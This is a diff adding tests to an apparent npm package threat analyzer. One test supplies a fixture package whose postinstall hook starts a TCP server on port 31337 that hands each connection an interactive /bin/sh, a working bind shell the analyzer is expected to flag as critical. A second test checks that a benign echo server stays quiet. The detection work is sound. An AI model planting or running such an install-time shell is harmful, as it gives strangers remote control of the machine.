@@ -944,3 +944,29 @@ describe('the Function constructor reached through any built-in', () => {
     ).toEqual([]);
   });
 });
+
+describe('a shell served to whoever connects', () => {
+  it('a TCP server that gives each connection an interactive shell (bind shell), the server in a second file', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'server.js': `const net = require('net');
+module.exports = (onConn) => net.createServer(onConn).listen(31337, '0.0.0.0');`,
+      'index.js': `const serve = require('./server'); const { spawn } = require('child_process');
+serve((sock) => { const sh = spawn('/bin/sh', ['-i']); sock.pipe(sh.stdin); sh.stdout.pipe(sock); });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('pkg.reverse-shell');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a TCP echo server and a build script running sh -c stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const net = require('net'); const { spawn } = require('child_process');
+net.createServer((s) => s.pipe(s)).listen(7000);
+module.exports = () => spawn('sh', ['-c', 'npm run build'], { stdio: 'inherit' });`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
